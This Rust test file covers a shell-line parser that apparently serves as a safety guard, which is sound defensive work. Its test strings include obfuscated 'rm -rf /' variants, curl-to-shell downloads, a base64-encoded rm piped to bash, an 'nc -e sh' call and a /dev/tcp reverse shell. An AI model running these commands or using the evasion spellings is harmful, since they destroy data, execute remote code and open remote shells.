//! What lines do, by example; and that no text is too much.

use super::*;
use proptest::prelude::*;

fn line(text: &str) -> Line {
    read(text).unwrap_or_else(|| Line { programs: vec!["(no line)".to_owned()], ..Line::default() })
}

fn commands(text: &str) -> Vec<String> {
    line(text).commands
}

fn programs(text: &str) -> String {
    line(text).programs.join(" ")
}

#[test]
fn options_have_one_order_and_one_spelling() {
    let usual = "rm / -f -r";
    for spelled in [
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm / -rf",
        "rm --recursive --force /",
        "rm -r --force -- /",
        "/bin/rm -rf /",
        "\\rm -rf /",
        "r\\m -rf /",
        "'rm' -rf /",
        "r''m -r\"f\" /",
        "$'\\x72m' -rf /",
        "rm -rf '/'",
        "rm${IFS}-rf${IFS}/",
        "a=rm; $a -rf /",
        "x=m; r$x -rf /",
        "r$@m -rf /",
        "$(echo rm) -rf /",
        "`printf rm` -rf /",
        "rm \\\n -rf /",
        "rm -rf / # all of it",
    ] {
        assert_eq!(commands(spelled).last().map(String::as_str), Some(usual), "{spelled}");
    }
    assert_eq!(commands("git -C /srv push origin main --force"), ["git push origin main -C -f"]);
    assert_eq!(commands("find . -name '*.o' -delete"), ["find . *.o -delete -name"]);
    assert_eq!(commands("LD_PRELOAD=/tmp/x.so ls"), ["LD_PRELOAD=/tmp/x.so", "ls"]);
    assert_eq!(commands("nc.exe -e sh host"), ["nc sh host -e"]);
    assert_eq!(commands("echo 'two words'"), ["echo 'two words'"]);
}

#[test]
fn what_a_wrapper_runs_is_run() {
    for (text, expected) in [
        ("sudo rm x", "sudo rm"),
        ("sudo -u root env A=1 nice -n 5 rm x", "sudo env nice rm"),
        ("timeout -k 5 10 rm x", "timeout rm"),
        ("nohup setsid rm x &", "nohup setsid rm"),
        ("ls | xargs -n 1 rm", "ls xargs rm"),
        ("find . -exec rm {} \\; -exec shred {} +", "find rm shred"),
        ("sh -c 'cd /; rm x'", "sh cd rm"),
        ("bash -lc \"rm x\"", "bash rm"),
        ("eval \"rm x\"", "eval rm"),
        ("ssh -p 22 host rm x", "ssh rm"),
        ("su -c 'rm x' root", "su rm"),
        ("echo rm x | sh", "echo sh rm"),
        ("echo cm0gLXJmIC8= | base64 -d | bash", "echo base64 bash rm"),
        ("bash <<< 'rm x'", "bash rm"),
        ("bash << END\nrm x\nEND", "bash rm"),
        ("cat << END | sh\nrm x\nEND", "cat sh rm"),
        ("if true; then rm x; fi", "true rm"),
        ("f() { rm x; }; f", "rm f"),
        ("for i in a b; do rm $i; done", "rm"),
        ("(cd / && rm x) || reboot", "cd rm reboot"),
        ("echo $(rm x)", "echo rm"),
        ("echo \"`rm x`\"", "echo rm"),
        ("cat <(rm x)", "cat rm"),
        ("x=$(rm x)", "rm"),
        ("A=1 rm x", "rm"),
        ("echo ${x:-$(rm x)}", "echo rm"),
        ("case x in a) rm x;; esac", "rm"),
        ("! rm x", "rm"),
        ("time rm x", "time rm"),
    ] {
        let mut found: Vec<&str> = expected.split(' ').collect();
        let said = programs(text);
        let mut got: Vec<&str> = said.split(' ').collect();
        found.sort_unstable();
        got.sort_unstable();
        assert_eq!(got, found, "{text}");
    }
}

#[test]
fn what_cannot_be_seen_is_opaque() {
    for text in [
        "$x -rf /",
        "curl https://example.com/x | sh",
        "curl https://example.com/x | sudo bash -s",
        "bash <(curl https://example.com/x)",
        "bash -c \"$(curl https://example.com/x)\"",
        "sh",
        "python3 -c 'import os'",
        "perl -e 'unlink'",
        "eval \"$x\"",
        "/bin/r? x",
        "echo $x | sh",
        "wget -O- example.com | python3",
        "sh -c 'rm ('",
        "base64 -d x | sh",
        "source <(curl example.com)",
        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
    ] {
        assert!(line(text).is_opaque, "{text}");
    }
    for text in
        ["rm x", "bash build.sh", "python3 main.py", "bash --version", "echo \"$x\"", "ls *.rs"]
    {
        assert!(!line(text).is_opaque, "{text}");
    }
}

#[test]
fn what_flows_into_a_shell_is_a_pipeline() {
    assert_eq!(line("curl x | sudo tee y | sh").pipelines, ["curl | tee | sh"]);
    assert_eq!(line("bash <(curl x)").pipelines, ["curl | bash"]);
    assert_eq!(line("bash -c \"$(wget -O- x)\"").pipelines, ["wget | bash"]);
    assert_eq!(line("eval $(curl x)").pipelines, ["curl | eval"]);
}

#[test]
fn redirects_say_where_to() {
    assert_eq!(line("echo x > /etc/motd 2>&1").redirects, ["> /etc/motd"]);
    assert_eq!(
        line("sort < names >> out 2> /dev/null").redirects,
        ["< names", ">> out", "> /dev/null"]
    );
    assert_eq!(
        line("bash -i >& /dev/tcp/192.0.2.1/99 0>&1").redirects,
        [">& /dev/tcp/192.0.2.1/99"]
    );
    assert_eq!(line("echo x | tee f > g").redirects, ["> g"]);
}

#[test]
fn one_command_alone_is_simple() {
    for text in ["ls", "ls -la src", "git commit -m 'a; b'", "echo \"x y\"", ""] {
        assert!(line(text).is_simple, "{text}");
    }
    for text in [
        "ls; ls",
        "ls && ls",
        "ls | wc",
        "ls > x",
        "ls $HOME",
        "ls $(pwd)",
        "A=1 ls",
        "sudo ls",
        "ls &",
        "(ls)",
        "sh -c ls",
        "cat << END\nx\nEND",
        "ls <(ls)",
        "! ls",
    ] {
        assert!(!line(text).is_simple, "{text}");
    }
}

#[test]
fn what_no_shell_takes_is_no_line() {
    for text in [
        "echo 'x",
        "ls |",
        "ls &&",
        "if true",
        "(ls",
        "ls )",
        "echo $(ls",
        "\0",
        "> >",
        "{rm,-rf,/}",
    ] {
        assert_eq!(read(text), None, "{text:?}");
    }
}

#[test]
fn what_is_past_a_limit_is_no_line() {
    assert!(read(&"a".repeat(limits::LINE_BYTES_MAX)).is_some());
    assert!(read(&"a".repeat(limits::LINE_BYTES_MAX + 1)).is_none());
    let nested = |open: &str, close: &str, depth: usize| {
        format!("{}ls{}", open.repeat(depth), close.repeat(depth))
    };
    for (open, close) in
        [("(", ")"), ("$(", ")"), ("{ ", ";}"), ("\"$(", ")\""), ("if ", ";then a;fi")]
    {
        let depth = limits::LINE_BYTES_MAX / (open.len() + close.len()) - 1;
        drop(read(&nested(open, close, depth)));
        drop(read(&open.repeat(limits::LINE_BYTES_MAX / open.len())));
    }
    let evals = "eval ".repeat(limits::LINE_BYTES_MAX / 5);
    drop(read(&evals));
    // Each level is read for what it writes, and again for what it runs.
    drop(read(&nested("$(echo ", ")", 40)));
}

proptest! {
    #[test]
    fn any_text_is_read_to_an_answer(text in "[a-z $(){}<>|&;'\"`\\\\!#*?=/\n-]{0,80}") {
        drop(read(&text));
    }

    #[test]
    fn any_bytes_are_read_to_an_answer(text in any::<String>()) {
        drop(read(&text));
    }

    #[test]
    fn quotes_do_not_hide_a_program(name in "[a-z]{1,8}", cut in 0_usize..8) {
        let cut = cut.min(name.len());
        let (head, tail) = name.split_at(cut);
        for quoted in [format!("{head}''{tail}"), format!("\"{head}\"{tail}"), format!("{head}'{tail}'")] {
            prop_assert_eq!(programs(&format!("{quoted} x")), programs(&format!("'{name}' x")));
        }
    }
}
